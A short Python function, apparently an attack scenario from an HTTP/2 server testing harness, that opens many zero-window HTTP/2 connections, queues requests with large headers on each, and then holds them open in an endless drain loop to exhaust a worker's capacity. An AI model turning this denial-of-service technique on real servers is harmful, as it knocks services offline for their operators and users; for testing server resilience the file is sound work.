"""Streams without a window hold requests with large heads, one connection of HTTP/2 for all that a worker has places for."""

import time


def attack(victim):
    connections = []
    for _ in range(2 * victim.scale):
        connections.append(victim.http2(window=0))
        for _ in range(128):
            connections[-1].send(connections[-1].request("/fetch/good/hit-0", [("x-big", "x" * 2100)], last=99_999)[1])
    time.sleep(0.5)
    victim.begun()
    while True:
        for connection in connections:
            connection.drain()
        time.sleep(0.1)
